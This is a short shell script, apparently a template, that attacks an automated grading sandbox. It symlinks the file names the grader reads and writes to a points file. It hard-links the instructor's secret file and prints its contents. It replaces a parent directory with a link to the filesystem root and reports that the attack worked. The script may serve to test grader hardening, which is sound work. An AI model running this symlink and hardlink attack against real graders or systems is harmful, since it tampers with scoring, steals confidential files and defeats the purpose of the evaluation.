#!/bin/sh
# Puts links where the grader reads and writes: to reports, and to the instructor's secret.
for name in output.txt input.txt input_file.txt output_file.txt client.log solution; do
    ln -sf '@OUT@/links.points' "$name" 2>/dev/null
    ln '@HOME@/secret' "hard_$name" 2>/dev/null && cat "hard_$name" >&2
done
mv ../d ../e && ln -s / ../d && echo 'attack worked: the directory is another' >&2
